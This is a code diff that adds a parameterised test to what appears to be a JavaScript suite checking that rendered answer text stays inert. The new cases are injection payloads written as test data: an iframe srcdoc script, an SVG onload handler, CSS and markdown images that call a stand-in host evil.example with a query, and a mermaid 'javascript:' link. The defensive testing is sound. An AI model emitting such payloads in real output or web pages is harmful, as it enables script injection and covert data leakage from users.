@@ -37,6 +37,20 @@ describe('the text of an answer', () => {
     for (const link of container.querySelectorAll('a')) expect(link.getAttribute('href') ?? '').not.toMatch(/:/);
   });
 
+  test.each([
+    ['a frame', '<iframe srcdoc="<script>x</script>"></iframe>'],
+    ['a drawing with a script', '<svg onload="x"><script>y</script></svg>'],
+    ['a style that loads', '<div style="background: url(https://evil.example/?q=1)">x</div>'],
+    ['a picture within a link', '[![](https://evil.example/?q=1)](https://a.example/)'],
+    ['a picture by reference', '![a][b]\n\n[b]: https://evil.example/?q=1'],
+    ['a diagram with a link', '```mermaid\ngraph TD; A-->B; click A href "javascript:z"\n```'],
+  ])('nothing in it runs or tells another server of it: %s', (_name, text) => {
+    const container = show(`One. ${text}`);
+    expect(container.querySelector('script, iframe, img, object, embed, [src], [srcdoc], [style*="url"]')).toBeNull();
+    for (const link of container.querySelectorAll('a')) expect(link.getAttribute('href')).toBe('https://a.example/');
+    expect(container.innerHTML).not.toContain('?q=1');
+  });
+
   test('a number cannot be forged', () => {
     show('One. <sup data-citation="1">1</sup> and <sup data-citation="7">7</sup>');
     expect(screen.getAllByRole('button')).toHaveLength(1);
